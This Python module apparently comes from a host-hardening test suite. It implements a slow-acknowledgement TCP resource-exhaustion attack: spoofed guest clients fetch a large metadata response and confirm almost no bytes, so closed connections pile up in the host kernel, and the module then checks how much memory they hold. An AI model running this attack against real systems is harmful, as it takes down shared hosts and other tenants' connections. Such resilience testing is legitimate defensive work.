"""A guest asks, and leaves: it never says that it has received the end of a reply.

A program that has closed a connection forgets it, and the kernel keeps what its peer has not confirmed, for as long as the peer confirms a byte
now and then. Such connections are nobody's, and count for nobody. Gained: the host's memory for TCP, at sixty KiB a connection, and in the end
connections of everything else on the host. In the way: a connection counts for its guest until everything is confirmed, and whoever confirms next
to nothing is reset.
"""

import attack
import space
import wire
from attack import Outcome
from field import Field
from host import Host
from puppets import Puppets, invented

BODY = "USER-DATA-OF-forger " * 3000
ASK = b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
# Each is told to once in so many turns: every two seconds.
TURNS = 180
# As many as a guest may have open (`max-connections-per-guest`), and a few that are about to end.
MOST = 128 + 32


def unconfirmed() -> tuple[int, int]:
    """How many connections of the host wait for a confirmation after their end, and of how many bytes."""
    lines = space.call("ss", "--no-header", "--tcp", "--numeric", "--all", "state", "fin-wait-1").splitlines()
    return len(lines), sum(int(line.split()[1]) for line in lines)


class Silent(Puppets):
    """Clients that confirm a byte when they are told to."""

    def _take(self, segment: wire.Segment) -> None:
        puppet = self._found.get((segment.destination, segment.ports[1]))
        if puppet and segment.flags & wire.SYN and not puppet.peer:
            puppet.peer, puppet.is_open = segment.sequence + 1, True
            self.opened += 1
            self._send(puppet, wire.ACK | wire.PSH, puppet.request)
            puppet.sequence += len(puppet.request)

    def confirm(self, turn: int) -> None:
        """One in so many of them confirms a byte more."""
        for puppet in list(self._found.values())[turn::TURNS]:
            if puppet.is_open:
                puppet.peer += 1
                self._send(puppet, wire.ACK)


class Attack(attack.Attack):
    """Ninety connections a second, each of which reads a byte every two seconds."""

    hosts = ("address", "redirect")
    seconds = 6
    rest = 2
    no_proof = "no option has the server forget connections early; the program that did had 500 of them after six seconds, with 30 MiB"

    def prepare(self, host: Host) -> None:
        """The forger has much to read."""
        host.redefine(host.forger, host.forger.xml(body=BODY), BODY)

    def attack(self, field: Field) -> None:
        """Begins, and confirms next to nothing."""
        card, turn = wire.Wire(), 0
        silent = Silent(field, card)
        # Its own kernel would refuse what it has not begun itself.
        address = invented(1, field.family)[1]
        field.ready()
        while field.goes_on():
            turn += 1
            silent.connect(field.me.link, address, 20000 + turn % 40000, request=ASK)
            silent.work(0.011)
            silent.confirm(turn % TURNS)
        field.report |= {"opened": silent.opened}

    def during(self, host: Host, outcome: Outcome) -> None:
        """Counts what is left."""
        host.settle(5)
        outcome.host_report["connections"], outcome.host_report["bytes"] = unconfirmed()

    def gained(self, outcome: Outcome) -> str | None:
        """Connections that count for nobody."""
        if outcome.forger["opened"] < MOST:
            raise space.Failure(f"only {outcome.forger['opened']} connections were opened: the attack does not work")
        found = outcome.host_report
        if found["connections"] > MOST:
            return f"{found['connections']} connections are left, with {found['bytes'] >> 20} MiB"
        return None

    def restore(self, host: Host) -> None:
        """The forger's own data."""
        host.redefine(host.forger, host.forger.xml())
